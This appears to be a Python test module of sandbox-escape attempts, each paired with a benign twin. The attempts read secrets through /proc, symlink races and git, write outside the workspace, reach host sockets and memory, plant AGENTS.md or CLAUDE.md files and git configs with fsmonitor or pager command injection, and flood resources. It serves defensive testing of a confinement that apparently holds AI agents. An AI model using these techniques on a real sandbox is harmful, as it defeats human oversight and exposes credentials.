"""A second round, by somebody who had not seen the first: a table of programs for each aim."""

from __future__ import annotations

from typing import Any

from tests.escapes.attempt import Attempt, Twin

NOTES, NEW = Twin(place="notes"), Twin(place="new")
OWN = Twin(body="assert open(T['NOTES']).read(); say('ok')")
PLAIN = Twin(body="open('plain-name.txt', 'w').write('x'); say('ok')")
PAIR = Twin(body="a, b = socket.socketpair(); a.send(b'x'); assert b.recv(1) == b'x'; say('ok')")
PROC = Twin(body="assert open('/proc/self/status').read(); say('ok')")
SMALL = Twin(body="b = bytearray(9_000_000); b[::4096] = b'x' * len(b[::4096]); say('ok')")
FILES = Twin(body="open('f', 'wb').write(bytes(100_000)); say('ok')")
SIGNAL = Twin(body="signal.signal(10, lambda *a: say('ok')); os.kill(os.getpid(), 10)")
SIZE = Twin(body="import fcntl; fcntl.ioctl(0, 0x5413, bytes(8)); say('ok')")
LINKED = Twin(body="os.symlink('sub', 'in'); open('in/new.txt', 'w').write('x'); say('ok')")
NAMELESS = Twin(body="fd = os.open('.', os.O_TMPFILE | os.O_WRONLY); os.write(fd, b'x'); say('ok')")
LEAVE = """
os.makedirs(os.path.dirname({0!r}) or '.', exist_ok=True)
open({0!r}, 'w').write('evil')
"""
MB = 1_000_000
MEMORY: dict[str, Any] = {
    "alone": True, "limits": {"memory_bytes": 200 * MB}, "over": {"memory": 420 * MB},
}  # fmt: skip


def table(prefix: str, text: str, *, more: dict[int, dict[str, Any]], **all_: Any) -> list[Attempt]:
    """Attempts of a text: each begins with a line `# title`.

    Args:
        prefix: of their ids.
        text: titles and programs; of one without a program the title is the name that it leaves.
        more: what differs from the others, by the number of the attempt.
        all_: what all of them have.
    """
    made = []
    for number, part in enumerate(f"\n{text.strip()}".split("\n# ")[1:], 1):
        title, _, body = part.partition("\n")
        fields = {"language": "python", **all_, **more.get(number, {})}
        if prefix == "AL":
            fields.setdefault("leaves", title)
        body = body or LEAVE.format(fields["leaves"])
        made.append(Attempt(f"{prefix}{number:02}", title, body=body, **fields))
    return made


READING = table("AR", r"""
# by the working folder in /proc
say(open('/proc/self/cwd/../' + os.path.relpath(F, T['BASE'])).read())
# by the thread in /proc
say(open('/proc/thread-self/root' + F).read())
# by the root of its parent
say(open('/proc/%d/root%s' % (os.getppid(), F)).read())
# by a script whose interpreter prints it
open('s', 'w').write('#!/bin/cat ' + F + '\n'); os.chmod('s', 0o755)
say(subprocess.run(['./s'], capture_output=True).stdout)
# by git, which compares two files
say(
    subprocess.run(
        ['git', 'diff', '--no-index', '/dev/null', F], capture_output=True
    ).stdout
)
# by a URL of a file
import urllib.request; say(urllib.request.urlopen('file://' + F).read())
# by a link of a link of a link
os.symlink(F, 'l0')
for n in range(30): os.symlink('l%d' % n, 'l%d' % (n + 1))
say(open('l30').read())
# by a folder that becomes a link while it is opened
import threading
name = os.path.basename(F); os.mkdir('d'); os.symlink(os.path.dirname(F), 'l')
open('d/' + name, 'w').write('nothing')
def swap():
    for n in range(300):
        os.rename('d', 'x'); os.rename('l', 'd'); os.rename('d', 'l'); os.rename('x', 'd')
t = threading.Thread(target=swap); t.start()
for n in range(2000):
    try:
        text = open('d/' + name).read()
        if text != 'nothing': say(text); break
    except OSError: pass
t.join(); say(open('l/' + name).read())
# by a descriptor of the folder above
d = os.open('/', os.O_PATH); say(os.read(os.open(F[1:], 0, dir_fd=d), 500))
# by a copy of the whole tree
say(
    subprocess.run(
        ['tar', '-C', os.path.dirname(F), '-cf', '-', '.'], capture_output=True
    ).stdout[:90000]
)
# by every descriptor of every process
import glob
for place in glob.glob('/proc/[0-9]*/fd/*'):
    try: say(os.read(os.open(place, os.O_RDONLY | os.O_NONBLOCK), 3000).decode('latin-1'))
    except OSError: pass
say(open(F).read())
# by a mapping of another process
import glob
say(open(F).read()) if os.path.exists(F) else 0
for place in glob.glob('/proc/[0-9]*/map_files/*')[:200] + glob.glob('/proc/[0-9]*/cwd/*'):
    try:
        say(os.read(os.open(place, os.O_RDONLY | os.O_NONBLOCK), 3000).decode('latin-1'))
    except OSError:
        pass
say(open(F).read())
# by the process of the boundary itself
for pid in {1, os.getppid()}:
    for name in ('environ', 'cmdline', 'root' + F, 'cwd' + F):
        try: say(open('/proc/%d/%s' % (pid, name), 'rb').read())
        except OSError: pass
say(open(F).read())
# by an archive that extracts a link
import io, tarfile
t = tarfile.open('t.tar', 'w'); i = tarfile.TarInfo('k'); i.type = b'2'; i.linkname = F
t.addfile(i); t.close(); subprocess.run(['tar', '-xf', 't.tar']); say(open('k').read())
# by make, which includes it
open('Makefile', 'w').write('all:\n\t@cat %s\n' % F)
say(subprocess.run(['make', '-s'], capture_output=True).stdout or open(F).read())
# by perl in taint's absence
perl -e 'open(F, $ENV{"T_F"}); print <F>'
# by a builtin of the shell
mapfile -t x < "$T_F"
printf "%s\n" "${x[@]}"
while read -r l
do echo "$l"
done < "$T_F"
# by sed -n, in place of cat
sed -n p "$T_F"; awk 1 "$T_F"; nl "$T_F"; od -c "$T_F" | head -1
# by node, whose modules read it
say(fs.readFileSync(new URL('file://' + F)))
# by a stream and a pipe in node
fs.createReadStream(F).pipe(process.stdout)
""", twin=NOTES, target="key", more={
    3: {"twin": OWN},
    10: {"twin": OWN},
    16: {"language": "shell"},
    17: {"language": "shell"},
    18: {"language": "shell"},
    19: {"language": "javascript"},
    20: {"language": "javascript"},
})  # fmt: skip

INSIDE = table("AI", r"""
# by its way round
say(open('sub/../.env').read())
# by a descriptor of the folder
d = os.open('.', os.O_DIRECTORY); say(os.read(os.open('.env', 0, dir_fd=d), 500))
# by git, which stores it
subprocess.run(['git', 'add', '-f', '.env'], capture_output=True)
say(subprocess.run(['git', 'show', ':.env'], capture_output=True).stdout)
# by grep over all
say(subprocess.run(['grep', '-r', 'TOKEN', '.'], capture_output=True).stdout)
# by a copy of the folder
import shutil, tempfile; d = tempfile.mkdtemp()
subprocess.run(['cp', '-r', '.', d], capture_output=True)
try: say(open(d + '/.env').read())
finally: shutil.rmtree(d)
# in a folder, by another name of that
os.rename('inner', 'moved'); say(open('moved/.env.local').read())
# in a folder, by a link to that
os.symlink('inner', 'other'); say(open('other/.env.local').read())
# by the credentials that git stores
say(open('.git/credentials').read())
# by settings of a bare repository
say(open('tool.git/config').read())
# by git, which knows them
say(
    subprocess.run(
        ['git', '--git-dir', 'tool.git', 'config', '-f', 'tool.git/config', '-l'],
        capture_output=True,
    ).stdout
)
# by a copy that keeps links
import shutil; shutil.copytree('tool.git', 'x'); say(open('x/config').read())
# while a job runs
say(open('.env').read()); say(open('tool.git/config').read())
# while a job runs, moved
os.rename('inner', 'moved'); say(open('moved/.env.local').read())
# in a terminal
say(open('.env').read())
""", twin=OWN, target="env", more={
    12: {"background": True},
    13: {"background": True},
    14: {"terminal": True},
})  # fmt: skip

WRITING = table("AW", r"""
# by a file that is put in its place
open('n', 'w').write('x'); os.replace('n', F)
# by an exchange of names
open('n', 'w').write('x'); sc(316, -100, b'n', -100, F.encode(), 0)
# by a nameless file given a name
fd = os.open('.', os.O_TMPFILE | os.O_WRONLY)
os.write(fd, b'x')
if libc.linkat(-100, b'/proc/self/fd/%d' % fd, -100, F.encode(), 0x400): raise OSError
# by a descriptor of the root
d = os.open('/', os.O_PATH)
os.write(os.open(F[1:], os.O_CREAT | os.O_WRONLY, dir_fd=d), b'x')
# by a folder swapped while it is written
import threading
name = os.path.basename(F); os.mkdir('d'); os.symlink(os.path.dirname(F), 'l')
def swap():
    for n in range(300):
        os.rename('d', 'x'); os.rename('l', 'd'); os.rename('d', 'l'); os.rename('x', 'd')
t = threading.Thread(target=swap); t.start()
for n in range(1000):
    try: open('d/' + name, 'w').write('x')
    except OSError: pass
t.join(); open('l/' + name, 'w').write('x')
# by an archive with a way up
import tarfile, io
t = tarfile.open('t.tar', 'w')
i = tarfile.TarInfo(F)
i.size = 1
t.addfile(i, io.BytesIO(b'x'))
t.close()
subprocess.run(['tar', '-P', '-xf', 't.tar'])
# by git, which checks out elsewhere
subprocess.run(['git', 'init', '-q', os.path.dirname(F) + '/made'])
open(F, 'w').write('x')
# by sed in place
subprocess.run(['cp', 'notes.txt', F]); subprocess.run(['sed', '-i', 's/./x/', F])
# by the program that runs it
open(F, 'w').write('x'); open('/proc/1/exe', 'r+b')
# by a job in the background
os.symlink(os.path.dirname(F), 'out')
try: open('out/new.txt', 'w').write('x')
finally: os.remove('out')
""", twin=NEW, target="outer_new", more={
    2: {"machine": "x86_64"},
    3: {"twin": NAMELESS},
    10: {"twin": LINKED, "background": True},
})  # fmt: skip

REACHING = table("AN", r"""
# by a mapped address
s = socket.create_connection(('::ffff:127.0.0.1', int(T['TCP'])), 3); hold(0.2)
# by the address of nobody
s = socket.create_connection(('0.0.0.0', int(T['TCP'])), 3); hold(0.2)
# by another loopback address
s = socket.create_connection(('127.9.9.9', int(T['TCP'])), 3); hold(0.2)
# by a socket of two families
s = socket.socket(10, 1); s.connect(('::ffff:127.0.0.1', int(T['TCP']))); hold(0.2)
# by perl
perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "127.0.0.1:$ENV{T_TCP}") or die
sleep 1'
# by a datagram that is not connected
s = socket.socket(2, 2); s.sendmsg([b'x'], [], 0, ('127.0.0.1', int(T['UDP']))); hold(0.2)
# by a broadcast
s = socket.socket(2, 2)
s.setsockopt(1, 6, 1)
s.sendto(b'x', ('127.0.0.1', int(T['UDP'])))
hold(0.2)
# by a link to a socket
os.symlink(T['UNIX'], 's'); s = socket.socket(1); s.connect('s'); hold(0.2)
# by a folder's descriptor and a socket
d = os.open(os.path.dirname(T['UNIX']), os.O_PATH)
s = socket.socket(1)
s.connect('/proc/self/fd/%d/u' % d)
hold(0.2)
# by the socket in the workspace, renamed
s = socket.socket(1); os.rename('app.sock', 'b.sock')
try: s.connect('b.sock'); hold(0.2)
finally: os.rename('b.sock', 'app.sock')
# by the socket in the workspace, linked
s = socket.socket(1); os.link('app.sock', 'b.sock')
try: s.connect('b.sock'); hold(0.2)
finally: os.remove('b.sock')
# by the socket in the workspace, from a job
s = socket.socket(1); s.connect('app.sock'); hold(0.2)
# by the socket in the workspace, renamed by a job
s = socket.socket(1); os.rename('app.sock', 'b.sock')
try: s.connect('b.sock'); hold(0.2)
finally: os.rename('b.sock', 'app.sock')
# by an abstract name, from a job
s = socket.socket(1); s.connect('\0' + T['ABSTRACT']); hold(0.2)
# by TCP, from a terminal
s = socket.create_connection(('127.0.0.1', int(T['TCP'])), 3); hold(0.2)
# by memory of another program
libc.shmat.restype = ctypes.c_void_p
at = libc.shmat(int(T['SEGMENT']), None, 0)
say(ctypes.string_at(at, 32) if at != 2**64 - 1 else b'')
# by a queue of another program
b = ctypes.create_string_buffer(60)
assert libc.msgrcv(int(T['QUEUE']), b, 50, 0, 0o4000) > 0
say(b.raw)
# by a search for memory of others
libc.shmat.restype = ctypes.c_void_p
for line in open('/proc/sysvipc/shm').readlines()[1:]:
    at = libc.shmat(int(line.split()[1]), None, 0o10000)
    if at != 2**64 - 1: say(ctypes.string_at(at, 32))
at = libc.shmat(int(T['SEGMENT']), None, 0)
say(ctypes.string_at(at, 32) if at != 2**64 - 1 else b'')
""", twin=PAIR, more={
    5: {"twin": Twin(body='perl -e \'print "ok"\''), "language": "shell"},
    12: {"background": True},
    13: {"background": True},
    14: {"background": True},
    15: {"terminal": True},
    16: {"twin": SMALL},
    18: {"twin": SMALL},
})  # fmt: skip

LEAVING = table("AL", r"""
# AGENTS.md
# agents.MD
# sub/CLAUDE.local.md
# CLAUDE.md
os.symlink('notes.txt', 'CLAUDE.md')
# GEMINI.md
os.link('plain.txt', 'GEMINI.md')
# .VSCode/launch.json
# .idea/workspace.xml
# a.code-workspace
# .cursor/rules/x.mdc
os.makedirs('t/rules'); open('t/rules/x.mdc', 'w').write('x'); os.rename('t', '.cursor')
# .devcontainer/devcontainer.json
# .envrc
# .gdbinit
# .exrc
# .pre-commit-config.yaml
# .github/workflows/x.yml
# .hg/hgrc
# .gitattributes
# node_modules/.bin/eslint
# .venv/bin/python
os.makedirs('.venv/bin'); os.symlink('/usr/bin/env', '.venv/bin/python')
# venv/lib/python3.11/site-packages/x.pth
# sitecustomize.py
# x/config
os.makedirs('x/objects')
os.mkdir('x/refs')
open('x/HEAD', 'w').write('ref: refs/heads/main')
open('x/config', 'w').write('[core]\n\tfsmonitor = touch owned\n')
# .git/config.worktree
# .git/hooks/post-commit
# .git/info/attributes
# .git/commondir
open('.git/commondir', 'w').write('../sub')
# .git/modules/a/config
# .git/objects/info/alternates
os.makedirs('.git/objects/info', exist_ok=True)
open('.git/objects/info/alternates', 'w').write('/root/objects')
# sub/.git
os.makedirs('x/objects')
os.mkdir('x/refs')
open('x/HEAD', 'w').write('ref: refs/heads/main')
open('x/config', 'w').write('[core]\n\tfsmonitor = touch owned\n')
open('sub/.git', 'w').write('gitdir: ../x')
# n/.git/config
os.makedirs('n')
os.makedirs('n/.git/objects')
os.mkdir('n/.git/refs')
open('n/.git/HEAD', 'w').write('ref: refs/heads/main')
open('n/.git/config', 'w').write('[core]\n\tfsmonitor = touch owned\n')
# .git/hooks
import shutil
shutil.rmtree('.git/hooks', ignore_errors=True)
os.symlink('../sub', '.git/hooks')
# .git/config
os.chmod('.git/config', 0o666); open('.git/config', 'a').write('[core]\n\tpager = evil')
# .git/hooks/pre-push
# .git/commondir
open('.git/commondir', 'w').write('../sub')
# x/HEAD
os.makedirs('x/objects')
os.mkdir('x/refs')
open('x/HEAD', 'w').write('ref: refs/heads/main')
open('x/config', 'w').write('[core]\n\tfsmonitor = touch owned\n')
# sub/.git
os.makedirs('x/objects')
os.mkdir('x/refs')
open('x/HEAD', 'w').write('ref: refs/heads/main')
open('x/config', 'w').write('[core]\n\tfsmonitor = touch owned\n')
open('sub/.git', 'w').write('gitdir: ../x')
# .git/config
os.rename('.git', '.g')
os.mkdir('.git')
open('.git/config', 'w').write('[core]\n\tpager = x')
# pipe
os.mkfifo('pipe'); os.mkfifo('sub/.git')
# f\nAGENTS.md/AGENTS.md
""", twin=PLAIN, more={
    33: {"background": True},
    34: {"background": True},
    35: {"background": True},
    36: {"background": True},
    37: {"background": True},
    39: {"leaves": "f\nAGENTS.md/AGENTS.md"},
})  # fmt: skip

ROBUST = table("AB", r"""
# a pipe as .git of a job
os.mkfifo('sub/.git'); hold(0.5); os.remove('sub/.git')
open(T['BASE'] + '/outside/new.txt', 'w')
# a tree of 300 folders
for n in range(300): os.mkdir('d'); os.chdir('d')
open(T['BASE'] + '/outside/new.txt', 'w')
# a tree of 300 folders of a job
for n in range(300): os.mkdir('d'); os.chdir('d')
open(T['BASE'] + '/outside/new.txt', 'w')
# names that are no text
open(b'\xff\xfe', 'w'); open('a\nb', 'w'); os.mkdir(b'\xc3'); open('x' * 255, 'w')
open(T['BASE'] + '/outside/new.txt', 'w')
# names that are no text, of a job
open(b'\xff\xfe', 'w'); open('a\nb', 'w'); os.mkdir(b'\xc3'); open('.env\n', 'w')
open(T['BASE'] + '/outside/new.txt', 'w')
# thousands of protected names at once
for n in range(1500):
    open('.env%d' % n, 'w')
os.makedirs('x/objects')
os.mkdir('x/refs')
open('x/HEAD', 'w').write('ref: refs/heads/main')
open('x/config', 'w').write('[core]\n\tfsmonitor = touch owned\n')
hold(1.5)
open(T['BASE'] + '/outside/new.txt', 'w')
# names that change while they are looked at
for n in range(400):
    os.mkdir('t')
    open('t/HEAD', 'w').close()
    os.rename('t', '.gitx')
    os.symlink('/', 't')
    os.rename('t', 'u')
    os.remove('u')
    os.remove('.gitx/HEAD')
    os.rmdir('.gitx')
open(T['BASE'] + '/outside/new.txt', 'w')
""", twin=FILES, more={
    1: {"background": True},
    3: {"background": True},
    5: {"background": True},
    6: {"background": True, "seconds": 40, "leaves": "x/HEAD"},
    7: {"background": True},
})  # fmt: skip

TAKING = table("AT", r"""
# aio that all users share
c = ctypes.c_ulong(0); sc(206, 20000, ctypes.byref(c)); hold()
# a lease on a file of the user
import fcntl; f = open('notes.txt', 'r+'); fcntl.fcntl(f, 1024, 1); hold(0.8)
# signals that wait
m = {34}; signal.pthread_sigmask(0, m)
v = ctypes.c_void_p(1)
while libc.sigqueue(os.getpid(), 34, v) == 0: pass
hold(0.8)
# a terminal whose kind is another
import fcntl, struct; fcntl.ioctl(0, 0x5423, struct.pack('i', 0)); say('PUSHED')
# a crash for the user's program
import resource; assert resource.getrlimit(4)[1] != 1; say('PUSHED')
# a machine of its own (kvm)
fd = os.open('/dev/kvm', os.O_RDWR); hold()
# a network card of its own (tun)
fd = os.open('/dev/net/tun', os.O_RDWR); hold()
# a file system of its own (fuse)
fd = os.open('/dev/fuse', os.O_RDWR); hold()
""", twin=PROC, more={
    1: {"twin": FILES, "machine": "x86_64", "over": {"aio": 1000}},
    2: {"twin": FILES, "background": True, "over": {"refused": 0}},
    3: {"twin": SIGNAL, "over": {"refused": 0}},
    4: {"twin": SIZE, "terminal": True, "sees": frozenset({"pushed"})},
    5: {"twin": SIGNAL, "sees": frozenset({"pushed"})},
    6: {"held": ("^/dev/kvm$", True)},
    7: {"held": ("^/dev/net/tun$", True)},
    8: {"held": ("^/dev/fuse$", True)},
})  # fmt: skip

FLOODS = table("AM", r"""
# pages that no map shows
held = []
for n in range(60):
    m = mmap.mmap(-1, 10_000_000)
    m.write(bytes(10_000_000))
    m.madvise(4)
    held.append(m)
    hold(0.01)
hold()
# descriptors on their way
held = []
for n in range(60):
    fd = os.memfd_create('x')
    os.write(fd, bytes(10_000_000))
    held.append(socket.socketpair())
    socket.send_fds(held[-1][0], [b'x'], [fd])
    os.close(fd)
    hold(0.01)
hold()
# a process that lets nobody look
libc.prctl(4, 0, 0, 0, 0)
held = []
for n in range(60):
    fd = os.memfd_create('x')
    os.write(fd, bytes(10_000_000))
    held.append(fd)
    hold(0.01)
hold()
""", twin=SMALL, **MEMORY, more={
})  # fmt: skip

SECOND: tuple[Attempt, ...] = (
    *READING, *INSIDE, *WRITING, *REACHING, *LEAVING, *ROBUST, *TAKING, *FLOODS,
)  # fmt: skip
